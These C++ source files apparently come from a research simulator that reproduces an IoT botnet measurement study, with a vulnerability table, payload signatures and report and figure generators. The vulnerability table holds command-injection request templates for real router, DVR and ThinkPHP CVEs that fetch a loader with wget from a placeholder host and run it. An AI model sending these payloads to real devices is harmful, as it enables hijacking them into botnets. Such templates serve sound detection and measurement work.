    case VulnId::kGpon10561: return "CVE-2018-10561";
    case VulnId::kGpon10562: return "CVE-2018-10562";
    case VulnId::kDlinkHnap: return "CVE-2015-2051";
    case VulnId::kZyxel: return "CVE-2017-18368";
    case VulnId::kVacron: return "Vacron NVR RCE";
    case VulnId::kHuaweiHg532: return "CVE-2017-17215";
    case VulnId::kMvpowerDvr: return "MVPower DVR Shell RCE";
    case VulnId::kDir820: return "CVE-2021-45382";
    case VulnId::kLinksys: return "Linksys unauthenticated RCE";
    case VulnId::kEirD1000: return "WAN Side RCI";
    case VulnId::kThinkPhp: return "CVE-2018-20062";
    case VulnId::kNuuo: return "CVE-2016-5680";
    case VulnId::kNetlinkGpon: return "Netlink GPON Router RCE";
  }
  return "?";
}

std::int64_t Vulnerability::publication_study_day() const {
  return util::civil_to_study_day(pub_year, pub_month, pub_day);
}

double Vulnerability::age_years_at(std::int64_t at_day) const {
  return static_cast<double>(at_day - publication_study_day()) / 365.25;
}

namespace {

// All payload "exploits" are inert: the command-injection slots carry only a
// wget of the loader marker — the thing the paper's handshaker actually
// fingerprints — and nothing here executes anywhere.
constexpr const char* kGpon10561Tpl =
    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
    "Host: 127.0.0.1:8080\r\nUser-Agent: Hello, world\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;"
    "wget+http://{DL}/{LOADER}+-O+/tmp/gpon80;sh+/tmp/gpon80&ipv=0";

constexpr const char* kGpon10562Tpl =
    "POST /GponForm/diag_Form?style/ HTTP/1.1\r\n"
    "Host: 127.0.0.1:8080\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
    "http://{DL}/{LOADER}+-O+->+/tmp/.gpon`;&ipv=0";

constexpr const char* kDlinkHnapTpl =
    "POST /HNAP1/ HTTP/1.0\r\nHost: 127.0.0.1\r\n"
    "SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && "
    "wget http://{DL}/{LOADER} && sh {LOADER}`\"\r\n\r\n";

constexpr const char* kZyxelTpl =
    "POST /cgi-bin/ViewLog.asp HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
    "&remote_host=%3bcd+/tmp;wget+http://{DL}/{LOADER};sh+{LOADER}%3b%23&"
    "remoteSubmit=Save";

constexpr const char* kVacronTpl =
    "GET /board.cgi?cmd=cd+/tmp;wget+http://{DL}/{LOADER};sh+/tmp/{LOADER} "
    "HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

constexpr const char* kHuaweiTpl =
    "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 127.0.0.1:37215\r\n"
    "Content-Type: text/xml\r\nAuthorization: Digest username=\"dslf-config\"\r\n\r\n"
    "<?xml version=\"1.0\"?><s:Envelope><s:Body><u:Upgrade "
    "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
    "<NewStatusURL>$(/bin/busybox wget -g {DL} -l /tmp/{LOADER} -r /{LOADER}; "
    "sh /tmp/{LOADER})</NewStatusURL></u:Upgrade></s:Body></s:Envelope>";

constexpr const char* kMvpowerTpl =
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://{DL}/{LOADER};sh+/tmp/{LOADER} "
    "HTTP/1.1\r\nHost: 127.0.0.1:60001\r\n\r\n";

constexpr const char* kDir820Tpl =
    "POST /ddns_check.ccp HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "ccp_act=doCheck&origin_flag=1&ccp_actDDNS_EN=1&DDNS_HN=;"
    "wget http://{DL}/{LOADER};&DDNS_UN=admin&DDNS_PW=admin";

constexpr const char* kLinksysTpl =
    "POST /tmUnblock.cgi HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&"
    "ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F{DL}%2F{LOADER}%60&StartEPI=1";

constexpr const char* kEirD1000Tpl =
    "POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\n"
    "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"
    "Content-Type: text/xml\r\n\r\n"
    "<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body>"
    "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\">"
    "<NewNTPServer1>`cd /tmp;wget http://{DL}/{LOADER};sh {LOADER}`"
    "</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>";

constexpr const char* kThinkPhpTpl =
    "GET /index.php?s=/index/\\think\\app/invokefunction&function="
    "call_user_func_array&vars[0]=shell_exec&vars[1][]=cd /tmp;"
    "wget http://{DL}/{LOADER};sh {LOADER} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

constexpr const char* kNuuoTpl =
    "GET /handle_daylightsaving.php?act=update&TZ=`cd /tmp;"
    "wget http://{DL}/{LOADER};sh {LOADER}` HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

constexpr const char* kNetlinkTpl =
    "POST /boaform/admin/formPing HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "target_addr=;wget+http://{DL}/{LOADER}+-O+->+/tmp/.nl;sh+/tmp/.nl&"
    "waninf=1_INTERNET_R_VID_154";

}  // namespace

VulnDatabase::VulnDatabase() {
  auto add = [&](VulnId id, int row, std::optional<std::string> cve,
                 std::optional<std::string> exploit_ref, bool nvd, bool edb,
                 bool openvas, int y, int m, int d, std::string device,
                 net::Port port, std::string signature, const char* tpl,
                 Mitigation mit, int paper_samples) {
    Vulnerability v;
    v.id = id;
    v.paper_row = row;
    v.name = to_string(id);
    v.cve = std::move(cve);
    v.exploit_ref = std::move(exploit_ref);
    v.in_nvd = nvd;
    v.in_edb = edb;
    v.in_openvas = openvas;
    v.pub_year = y;
    v.pub_month = m;
    v.pub_day = d;
    v.target_device = std::move(device);
    v.port = port;
    v.signature = std::move(signature);
    v.payload_template = tpl;
    v.mitigation = mit;
    v.paper_samples = paper_samples;
    // Floor the sampling weight so even single-sample vulnerabilities
    // (Huawei HG532, NUUO) reliably appear in a one-year corpus draw.
    v.corpus_weight = std::max(3.0, static_cast<double>(paper_samples));
    vulns_.push_back(std::move(v));
  };

  // Table 4, row by row. Publication dates are the table's values.
  add(VulnId::kGpon10561, 1, "CVE-2018-10561", "EDB-44576", true, true, true,
      2018, 5, 3, "GPON Routers", 8080, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;",
      kGpon10561Tpl, Mitigation::kFirewallOnly, 139);
  add(VulnId::kGpon10562, 1, "CVE-2018-10562", "EDB-44576", true, true, true,
      2018, 5, 3, "GPON Routers", 8080, "dest_host=`busybox+wget+",
      kGpon10562Tpl, Mitigation::kFirewallOnly, 129);
  add(VulnId::kDlinkHnap, 2, "CVE-2015-2051", "EDB-ID-37171", true, true, false,
      2015, 2, 23, "D-Link Devices", 80, "purenetworks.com/HNAP1/GetDeviceSettings/`",
      kDlinkHnapTpl, Mitigation::kOfficialFix, 132);
  add(VulnId::kZyxel, 3, "CVE-2017-18368", std::nullopt, true, false, true,
      2019, 5, 2, "ZyXEL", 80, "/cgi-bin/ViewLog.asp",
      kZyxelTpl, Mitigation::kFirewallOnly, 38);
  add(VulnId::kVacron, 4, std::nullopt, "OPENVAS:1361412562310107187", false,
      false, true, 2017, 10, 11, "Vacron NVR", 80, "/board.cgi?cmd=",
      kVacronTpl, Mitigation::kUnknown, 46);
  add(VulnId::kHuaweiHg532, 5, "CVE-2017-17215", "EDB-43414", true, true, false,
      2018, 3, 20, "Huawei Router HG532", 37215, "/ctrlt/DeviceUpgrade_1",
      kHuaweiTpl, Mitigation::kOfficialFix, 1);
  add(VulnId::kMvpowerDvr, 6, std::nullopt, "EDB-ID-41471", false, true, true,
      2017, 2, 27, "MVPower DVR TV-7104HE", 60001, "/shell?cd+/tmp;",
      kMvpowerTpl, Mitigation::kReplaceDevice, 74);
  add(VulnId::kDir820, 7, "CVE-2021-45382", std::nullopt, true, false, false,
      2021, 12, 19, "D-Link DIR-820L", 80, "/ddns_check.ccp",
      kDir820Tpl, Mitigation::kReplaceDevice, 3);
  add(VulnId::kLinksys, 8, std::nullopt, "EDB-ID-31683", false, true, true,
      2014, 2, 16, "Linksys E-series devices", 8080, "/tmUnblock.cgi",
      kLinksysTpl, Mitigation::kFirewallOnly, 2);
  add(VulnId::kEirD1000, 9, std::nullopt, "EDB-ID-40740", false, true, false,
      2016, 11, 8, "Eir D1000 Wireless Router", 7547, "SetNTPServers",
      kEirD1000Tpl, Mitigation::kFirewallOnly, 9);
  add(VulnId::kThinkPhp, 10, "CVE-2018-20062", "EDB-45978", true, true, true,
      2018, 12, 11, "Devices that use ThinkPHP", 80, "think\\app/invokefunction",
      kThinkPhpTpl, Mitigation::kOfficialFix, 2);
  add(VulnId::kNuuo, 11, "CVE-2016-5680", "EDB-ID-40200", true, true, false,
      2016, 8, 31, "NUUO NVRmini2 / NETGEAR ReadyNAS", 80,
      "/handle_daylightsaving.php", kNuuoTpl, Mitigation::kFirewallOnly, 1);
  add(VulnId::kNetlinkGpon, 12, std::nullopt, "EDB-48225", false, true, false,
      2020, 3, 18, "Netlink GPON Routers", 8080, "/boaform/admin/formPing",
      kNetlinkTpl, Mitigation::kUnknown, 2);

  // Figure 9 loader catalog: weights are the paper's per-loader binary
  // counts; affinities tie device-specific loaders to their exploit.
  loaders_ = {
      {"t8UsA2.sh", 14.0, std::nullopt},
      {"Tsunami.x86", 12.0, std::nullopt},
      {"ddns.sh", 11.0, VulnId::kDir820},
      {"8UsA.sh", 9.0, std::nullopt},
      {"wget.sh", 6.0, std::nullopt},
      {"zyxel.sh", 4.0, VulnId::kZyxel},
      {"jaws.sh", 2.0, VulnId::kMvpowerDvr},
  };
}

const VulnDatabase& VulnDatabase::instance() {
  static const VulnDatabase db;
  return db;
}

const Vulnerability& VulnDatabase::by_id(VulnId id) const {
  for (const auto& v : vulns_) {
    if (v.id == id) return v;
  }
  throw std::logic_error("VulnDatabase::by_id: unknown id");
}

const Vulnerability* VulnDatabase::by_cve(std::string_view cve) const {
  for (const auto& v : vulns_) {
    if (v.cve && util::iequals(*v.cve, cve)) return &v;
  }
  return nullptr;
}

const Vulnerability* VulnDatabase::match_payload(util::BytesView payload) const {
  // 10562's signature is a substring context that also appears nowhere in
  // 10561 (distinct dest_host injection styles), so first match wins safely.
  for (const auto& v : vulns_) {
    if (util::contains(payload, v.signature)) return &v;
  }
  return nullptr;
}

std::string VulnDatabase::render_exploit(VulnId id, const std::string& dl,
                                         const std::string& loader) const {
  const auto& v = by_id(id);
  std::string out = v.payload_template;
  for (const auto& [placeholder, value] :
       {std::pair<std::string, const std::string&>{"{DL}", dl},
        std::pair<std::string, const std::string&>{"{LOADER}", loader}}) {
    std::size_t pos = 0;
    while ((pos = out.find(placeholder, pos)) != std::string::npos) {
      out.replace(pos, placeholder.size(), value);
      pos += value.size();
    }
  }
  return out;
}

std::optional<VulnDatabase::ExtractedDownloader> VulnDatabase::extract_downloader(
    util::BytesView payload) const {
  const std::string text = util::to_string(payload);
  static constexpr std::string_view kDelims = " ;&`'\"$<>)\r\n%+";

  // Pattern 1: http://<ip>/<loader> (possibly URL-encoded as http%3A%2F%2F).
  // Templates may also contain protocol URLs with domain hosts (e.g. the
  // HNAP SOAPAction namespace), so only IPv4-literal hosts are accepted.
  for (const std::string_view marker : {std::string_view("http://"),
                                        std::string_view("http%3A%2F%2F")}) {
    const bool encoded = marker.size() > 7;
    const std::string_view sep = encoded ? "%2F" : "/";
    std::size_t at = 0;
    while ((at = text.find(marker, at)) != std::string::npos) {
      const std::size_t host_begin = at + marker.size();
      at = host_begin;
      const auto host_end = text.find(sep, host_begin);
      if (host_end == std::string::npos) break;
      const std::string host = text.substr(host_begin, host_end - host_begin);
      if (!net::parse_ipv4(host)) continue;
      const std::size_t loader_begin = host_end + sep.size();
      std::size_t loader_end = loader_begin;
      while (loader_end < text.size() &&
             kDelims.find(text[loader_end]) == std::string_view::npos) {
        ++loader_end;
      }
      if (loader_end == loader_begin) continue;
      return ExtractedDownloader{host,
                                 text.substr(loader_begin, loader_end - loader_begin)};
    }
  }

  // Pattern 2: busybox wget -g <host> -l /tmp/<loader> (Huawei HG532 style).
  const auto g = text.find("wget -g ");
  if (g != std::string::npos) {
    const std::size_t host_begin = g + 8;
    const auto host_end = text.find(' ', host_begin);
    if (host_end != std::string::npos) {
      const auto l = text.find("-l /tmp/", host_end);
      if (l != std::string::npos) {
        std::size_t loader_begin = l + 8;
        std::size_t loader_end = loader_begin;
        while (loader_end < text.size() &&
               kDelims.find(text[loader_end]) == std::string_view::npos) {
          ++loader_end;
        }
        if (loader_end > loader_begin) {
          return ExtractedDownloader{
              text.substr(host_begin, host_end - host_begin),
              text.substr(loader_begin, loader_end - loader_begin)};
        }
      }
    }
  }
  return std::nullopt;
}

std::vector<net::Port> VulnDatabase::exploit_ports() const {
  std::vector<net::Port> ports;
  for (const auto& v : vulns_) {
    bool seen = false;
    for (const auto p : ports) {
      if (p == v.port) {
        seen = true;
        break;
      }
    }
    if (!seen) ports.push_back(v.port);
  }
  return ports;
}

}  // namespace malnet::vulndb
