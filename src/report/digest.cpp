#include "report/digest.hpp"

#include <map>
#include <set>
#include <sstream>

#include "botnet/world.hpp"
#include "util/simtime.hpp"
#include "vulndb/vulndb.hpp"

namespace malnet::report {

namespace {

/// Maps a study day onto its 1-based study week. Days in the gaps between
/// active collection periods (reporting lag pushes some samples there)
/// belong to the last started week — a continuous monitoring service keeps
/// reporting between collection bursts.
int week_of(std::int64_t day) {
  const auto& starts = botnet::active_week_start_days();
  int week = 1;
  for (std::size_t w = 0; w < starts.size(); ++w) {
    if (day >= starts[w]) week = static_cast<int>(w) + 1;
  }
  return week;
}

}  // namespace

WeeklyDigest build_weekly_digest(const core::StudyResults& results, int week) {
  WeeklyDigest digest;
  digest.week = week;
  const auto& starts = botnet::active_week_start_days();
  if (week >= 1 && week <= static_cast<int>(starts.size())) {
    digest.first_day = starts[static_cast<std::size_t>(week - 1)];
  }

  for (const auto& s : results.d_samples) {
    if (week_of(s.day) == week) ++digest.new_samples;
  }
  for (const auto& [addr, rec] : results.d_c2s) {
    if (week_of(rec.discovery_day) != week) continue;
    digest.new_c2s.push_back(addr);
    if (!rec.vt_malicious_same_day) digest.ti_missed_c2s.push_back(addr);
  }

  // Vulnerabilities first observed this week across the whole study.
  std::map<vulndb::VulnId, std::int64_t> first_seen;
  for (const auto& e : results.d_exploits) {
    const auto it = first_seen.find(e.vuln);
    if (it == first_seen.end() || e.day < it->second) first_seen[e.vuln] = e.day;
  }
  for (const auto& [vuln, day] : first_seen) {
    if (week_of(day) == week) {
      digest.new_vulns.push_back(vulndb::to_string(vuln));
    }
  }

  for (const auto& d : results.d_ddos) {
    if (week_of(d.day) != week) continue;
    ++digest.attacks;
    digest.attack_lines.push_back(d.detection.command.summary() + " via " +
                                  d.c2_address);
  }
  return digest;
}

std::vector<WeeklyDigest> build_all_digests(const core::StudyResults& results) {
  std::vector<WeeklyDigest> out;
  const auto weeks = static_cast<int>(botnet::active_week_start_days().size());
  for (int w = 1; w <= weeks; ++w) {
    auto digest = build_weekly_digest(results, w);
    if (digest.new_samples > 0 || !digest.new_c2s.empty() || digest.attacks > 0) {
      out.push_back(std::move(digest));
    }
  }
  return out;
}

std::string render_digest(const WeeklyDigest& digest) {
  std::ostringstream os;
  os << "--- MalNet weekly digest: study week " << digest.week << " ("
     << util::study_date(digest.first_day) << ") ---\n";
  os << digest.new_samples << " new binaries analysed; " << digest.new_c2s.size()
     << " new C2 server(s)";
  if (!digest.ti_missed_c2s.empty()) {
    os << ", of which " << digest.ti_missed_c2s.size()
       << " unknown to threat intelligence:";
    for (const auto& addr : digest.ti_missed_c2s) os << ' ' << addr;
  }
  os << '\n';
  if (!digest.new_vulns.empty()) {
    os << "first sightings of exploited vulnerabilities:";
    for (const auto& v : digest.new_vulns) os << ' ' << v << ';';
    os << '\n';
  }
  if (digest.attacks > 0) {
    os << digest.attacks << " DDoS command(s) eavesdropped:\n";
    for (const auto& line : digest.attack_lines) os << "  " << line << '\n';
  }
  return os.str();
}

}  // namespace malnet::report
