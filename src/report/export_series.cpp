#include "report/export_series.hpp"

#include <algorithm>
#include <fstream>
#include <set>

#include "report/summary.hpp"
#include "util/csv.hpp"
#include "vulndb/vulndb.hpp"

namespace malnet::report {

namespace {

std::string cdf_csv(const util::Cdf& cdf, const std::string& x_name) {
  util::CsvWriter w({x_name, "cumulative_fraction"});
  for (const auto& [x, p] : cdf.steps()) {
    w.field(x, 2).field(p, 6);
    w.end_row();
  }
  return w.str();
}

}  // namespace

std::map<std::string, std::string> export_figure_series(
    const core::StudyResults& results, const asdb::AsDatabase& asdb) {
  std::map<std::string, std::string> out;

  // Figure 1.
  {
    util::CsvWriter w({"week", "asn", "as_name", "c2_count"});
    for (const auto& [key, n] : weekly_as_counts(results)) {
      const auto* info = asdb.by_asn(key.second);
      w.field(std::int64_t{key.first})
          .field(std::uint64_t{key.second})
          .field(info != nullptr ? info->name : "?")
          .field(std::int64_t{n});
      w.end_row();
    }
    out["fig1_weekly_heatmap.csv"] = w.str();
  }

  const auto ls = lifespan_stats(results);
  out["fig2_lifetime_ip.csv"] = cdf_csv(ls.ip_lifetimes, "lifetime_days");
  out["fig3_lifetime_domain.csv"] = cdf_csv(ls.domain_lifetimes, "lifetime_days");

  // Figure 4.
  {
    util::CsvWriter w({"target", "round", "responded"});
    for (const auto& [ep, bits] : results.d_pc2.raster) {
      for (std::size_t r = 0; r < bits.size(); ++r) {
        w.field(net::to_string(ep))
            .field(std::uint64_t{r})
            .field(std::uint64_t{bits[r] ? 1u : 0u});
        w.end_row();
      }
    }
    out["fig4_probe_raster.csv"] = w.str();
  }

  const auto sh = sharing_stats(results);
  out["fig5_samples_per_c2.csv"] = cdf_csv(sh.samples_per_c2_ip, "samples");
  out["fig6_samples_per_domain.csv"] = cdf_csv(sh.samples_per_domain, "samples");
  out["fig7_vendor_cdf.csv"] = cdf_csv(ti_stats(results).vendors_per_c2, "vendors");

  // Figure 8.
  {
    util::CsvWriter w({"vulnerability", "week", "binaries"});
    std::map<std::pair<vulndb::VulnId, std::int64_t>, int> counts;
    for (const auto& e : results.d_exploits) ++counts[{e.vuln, e.day / 7}];
    for (const auto& [key, n] : counts) {
      w.field(vulndb::to_string(key.first)).field(key.second).field(std::int64_t{n});
      w.end_row();
    }
    out["fig8_vuln_weekly.csv"] = w.str();
  }

  // Figure 9.
  {
    std::map<std::string, std::set<std::string>> samples_per_loader;
    for (const auto& e : results.d_exploits) {
      if (!e.loader_name.empty()) {
        samples_per_loader[e.loader_name].insert(e.sample_sha);
      }
    }
    util::CsvWriter w({"loader", "binaries"});
    for (const auto& [loader, shas] : samples_per_loader) {
      w.field(loader).field(std::uint64_t{shas.size()});
      w.end_row();
    }
    out["fig9_loaders.csv"] = w.str();
  }

  const auto dd = ddos_stats(results, asdb);

  // Figure 10.
  {
    util::CsvWriter w({"protocol", "attacks"});
    for (const auto& [proto, n] : dd.by_protocol) {
      w.field(proto).field(std::int64_t{n});
      w.end_row();
    }
    out["fig10_protocols.csv"] = w.str();
  }

  // Figure 11.
  {
    util::CsvWriter w({"attack_type", "family", "attacks"});
    for (const auto& [key, n] : dd.by_type_family) {
      w.field(key.first).field(key.second).field(std::int64_t{n});
      w.end_row();
    }
    out["fig11_types.csv"] = w.str();
  }

  // Figure 12.
  {
    util::CsvWriter w({"dimension", "key", "count"});
    for (const auto& [k, n] : dd.target_as_types) {
      w.field("as_type").field(k).field(std::int64_t{n});
      w.end_row();
    }
    for (const auto& [k, n] : dd.target_countries) {
      w.field("country").field(k).field(std::int64_t{n});
      w.end_row();
    }
    for (const auto& [k, n] : dd.c2_countries) {
      w.field("c2_country").field(k).field(std::int64_t{n});
      w.end_row();
    }
    out["fig12_targets.csv"] = w.str();
  }

  // Figure 13.
  {
    const auto per_as = c2s_per_as(results);
    std::vector<std::pair<std::uint32_t, int>> sorted(per_as.begin(), per_as.end());
    std::sort(sorted.begin(), sorted.end(),
              [](const auto& a, const auto& b) { return a.second > b.second; });
    int total = 0;
    for (const auto& [asn, n] : sorted) total += n;
    util::CsvWriter w({"rank", "asn", "c2_count", "cumulative_fraction"});
    double cum = 0;
    for (std::size_t i = 0; i < sorted.size(); ++i) {
      cum += sorted[i].second;
      w.field(std::uint64_t{i + 1})
          .field(std::uint64_t{sorted[i].first})
          .field(std::int64_t{sorted[i].second})
          .field(total > 0 ? cum / total : 0.0, 6);
      w.end_row();
    }
    out["fig13_as_rank.csv"] = w.str();
  }

  return out;
}

std::size_t write_figure_series(const core::StudyResults& results,
                                const asdb::AsDatabase& asdb,
                                const std::string& directory) {
  const auto series = export_figure_series(results, asdb);
  for (const auto& [name, content] : series) {
    const std::string path = directory + "/" + name;
    std::ofstream f(path);
    if (!f) throw std::runtime_error("cannot write " + path);
    f << content;
  }
  return series.size();
}

}  // namespace malnet::report
