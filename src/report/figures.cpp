#include "report/figures.hpp"

#include <algorithm>
#include <set>
#include <sstream>

#include "report/render.hpp"
#include "report/summary.hpp"
#include "util/str.hpp"
#include "vulndb/vulndb.hpp"

namespace malnet::report {

std::string figure1_heatmap(const core::StudyResults& results,
                            const asdb::AsDatabase& asdb) {
  const auto weekly = weekly_as_counts(results);
  const auto per_as = c2s_per_as(results);
  std::vector<std::pair<std::uint32_t, int>> top(per_as.begin(), per_as.end());
  std::sort(top.begin(), top.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });
  if (top.size() > 10) top.resize(10);

  int max_week = 0;
  for (const auto& [key, n] : weekly) max_week = std::max(max_week, key.first);

  std::vector<std::string> labels;
  std::vector<std::vector<double>> cells;
  for (const auto& [asn, total] : top) {
    const auto* info = asdb.by_asn(asn);
    labels.push_back((info != nullptr ? info->name : "?") + " (" +
                     std::to_string(asn) + ")");
    std::vector<double> row(static_cast<std::size_t>(max_week), 0.0);
    for (int w = 1; w <= max_week; ++w) {
      const auto it = weekly.find({w, asn});
      if (it != weekly.end()) row[static_cast<std::size_t>(w - 1)] = it->second;
    }
    cells.push_back(std::move(row));
  }
  std::ostringstream os;
  os << "Figure 1: weekly C2 activity per top-10 AS (" << max_week
     << " study weeks; darker = more C2s)\n"
     << render_heatmap(labels, cells)
     << "Top ASes ranking in the weekly top-10 at least half their active weeks: "
     << util::percent(weekly_top_as_consistency(results))
     << " (paper: 60% appear consistently)\n";
  return os.str();
}

std::string figure2_lifetime_ip(const core::StudyResults& results) {
  const auto ls = lifespan_stats(results);
  std::ostringstream os;
  os << "Figure 2: CDF of observed C2 IP lifetimes\n"
     << render_cdf(ls.ip_lifetimes, "lifetime (days)")
     << "P(lifespan = 1 day) = " << util::percent(ls.one_day_fraction)
     << " (paper: ~80%); mean = " << util::fixed(ls.mean_days, 2)
     << " days (paper: ~4); dead-on-arrival = " << util::percent(ls.dead_on_arrival)
     << " (paper: 60%)\n";
  return os.str();
}

std::string figure3_lifetime_domain(const core::StudyResults& results) {
  const auto ls = lifespan_stats(results);
  std::ostringstream os;
  os << "Figure 3: CDF of observed C2 domain lifetimes\n"
     << render_cdf(ls.domain_lifetimes, "lifetime (days)")
     << "(paper: qualitatively similar to Figure 2)\n";
  return os.str();
}

std::string figure4_probe_raster(const core::StudyResults& results) {
  const auto ps = probe_stats(results.d_pc2);
  std::vector<std::string> labels;
  std::vector<std::vector<bool>> rows;
  for (const auto& [ep, bits] : results.d_pc2.raster) {
    labels.push_back(net::to_string(ep));
    rows.push_back(bits);
  }
  std::ostringstream os;
  os << "Figure 4: C2 probe responses, " << ps.targets << " servers x " << ps.rounds
     << " probes (6/day for two weeks; '#' = responded)\n"
     << render_raster(labels, rows) << "Second-probe (+4h) non-response rate: "
     << util::percent(ps.second_probe_nonresponse)
     << " (paper: 91%); target-days with all 6 probes answered: "
     << ps.days_with_all_probes_answered << " (paper: 0); overall response rate: "
     << util::percent(ps.response_rate) << '\n';
  return os.str();
}

std::string figure5_samples_per_c2(const core::StudyResults& results) {
  const auto sh = sharing_stats(results);
  std::ostringstream os;
  os << "Figure 5: CDF of distinct binaries per C2 IP\n"
     << render_cdf(sh.samples_per_c2_ip, "samples per C2")
     << "C2s contacted by more than one binary: "
     << util::percent(sh.multi_sample_fraction) << " (paper: ~60%)\n";
  return os.str();
}

std::string figure6_samples_per_domain(const core::StudyResults& results) {
  const auto sh = sharing_stats(results);
  std::ostringstream os;
  os << "Figure 6: CDF of distinct binaries per C2 domain\n"
     << render_cdf(sh.samples_per_domain, "samples per domain");
  return os.str();
}

std::string figure7_vendor_cdf(const core::StudyResults& results) {
  const auto ti = ti_stats(results);
  std::ostringstream os;
  os << "Figure 7: CDF of #vendors flagging a known C2 (same-day query)\n"
     << render_cdf(ti.vendors_per_c2, "vendors");
  if (!ti.vendors_per_c2.empty()) {
    os << "Flagged by <= 2 vendors: " << util::percent(ti.vendors_per_c2.at(2.0))
       << " (paper: ~25% by one or two feeds)\n";
  }
  return os.str();
}

std::string figure8_vuln_timeseries(const core::StudyResults& results) {
  const auto& vdb = vulndb::VulnDatabase::instance();
  std::int64_t last_day = 0;
  for (const auto& e : results.d_exploits) last_day = std::max(last_day, e.day);
  const int weeks = static_cast<int>(last_day / 7) + 1;

  std::ostringstream os;
  os << "Figure 8: binaries per week exploiting each vulnerability\n";
  std::vector<std::string> labels;
  std::vector<std::vector<double>> cells;
  for (const auto& v : vdb.all()) {
    std::vector<double> series(static_cast<std::size_t>(weeks), 0.0);
    int total = 0;
    for (const auto& e : results.d_exploits) {
      if (e.vuln != v.id) continue;
      ++series[static_cast<std::size_t>(e.day / 7)];
      ++total;
    }
    labels.push_back("v" + std::to_string(v.paper_row) + " " + v.name + " [" +
                     std::to_string(total) + "]");
    cells.push_back(std::move(series));
  }
  os << render_heatmap(labels, cells)
     << "(paper: four vulnerabilities dominate consistently; the rest are "
        "short, low-intensity bursts)\n";
  return os.str();
}

std::string figure9_loaders(const core::StudyResults& results) {
  std::map<std::string, std::set<std::string>> samples_per_loader;
  for (const auto& e : results.d_exploits) {
    if (!e.loader_name.empty()) samples_per_loader[e.loader_name].insert(e.sample_sha);
  }
  std::vector<std::pair<std::string, double>> bars;
  for (const auto& [name, shas] : samples_per_loader) {
    bars.emplace_back(name, static_cast<double>(shas.size()));
  }
  std::sort(bars.begin(), bars.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });
  std::ostringstream os;
  os << "Figure 9: binaries per loader filename (paper top: t8UsA2.sh=14, "
        "Tsunami.x86=12, ddns.sh=11, 8UsA.sh=9, wget.sh=6, zyxel.sh=4, jaws.sh=2)\n"
     << render_bars(bars);
  return os.str();
}

std::string figure10_ddos_protocols(const core::StudyResults& results,
                                    const asdb::AsDatabase& asdb) {
  const auto ds = ddos_stats(results, asdb);
  std::vector<std::pair<std::string, double>> bars;
  for (const auto& [proto, n] : ds.by_protocol) bars.emplace_back(proto, n);
  std::sort(bars.begin(), bars.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });
  std::ostringstream os;
  os << "Figure 10: DDoS attacks by target protocol (paper: UDP dominates at 74%)\n"
     << render_bars(bars);
  if (ds.total_attacks > 0) {
    const auto it = ds.by_protocol.find("UDP");
    const double udp =
        it == ds.by_protocol.end() ? 0.0 : static_cast<double>(it->second);
    os << "UDP share (excl. DNS): " << util::percent(udp / ds.total_attacks)
       << "; port 80 targets: " << util::percent(ds.port80_fraction)
       << " (paper: 21%); port 443: " << util::percent(ds.port443_fraction)
       << " (paper: 7%)\n";
  }
  return os.str();
}

std::string figure11_ddos_types(const core::StudyResults& results,
                                const asdb::AsDatabase& asdb) {
  const auto ds = ddos_stats(results, asdb);
  TextTable t({"Attack type", "Mirai", "Gafgyt", "Daddyl33t", "Total"});
  for (const auto& [type, total] : ds.by_type) {
    const auto cell = [&](const char* fam) {
      const auto it = ds.by_type_family.find({type, fam});
      return std::to_string(it == ds.by_type_family.end() ? 0 : it->second);
    };
    t.row({type, cell("Mirai"), cell("Gafgyt"), cell("Daddyl33t"),
           std::to_string(total)});
  }
  std::ostringstream os;
  os << "Figure 11: DDoS attack types by family\n"
     << t.render() << "Total attacks: " << ds.total_attacks
     << " (paper: 42); distinct types: " << ds.attack_types_seen
     << " (paper: 8); gaming-oriented types: " << ds.gaming_types_seen
     << " (paper: 2); issuing C2s: " << ds.distinct_c2s
     << " (paper: 17); commanded samples: " << ds.distinct_samples
     << " (paper: 20)\nTargets hit by two attack types: "
     << util::percent(ds.multi_attack_target_fraction) << " (paper: 25%)\n";
  return os.str();
}

std::string figure12_targets(const core::StudyResults& results,
                             const asdb::AsDatabase& asdb) {
  const auto ds = ddos_stats(results, asdb);
  std::ostringstream os;
  os << "Figure 12: DDoS targets by AS type and country\n";
  std::vector<std::pair<std::string, double>> type_bars, country_bars, c2_bars;
  int total = 0;
  for (const auto& [t, n] : ds.target_as_types) total += n;
  for (const auto& [t, n] : ds.target_as_types) type_bars.emplace_back(t, n);
  for (const auto& [c, n] : ds.target_countries) country_bars.emplace_back(c, n);
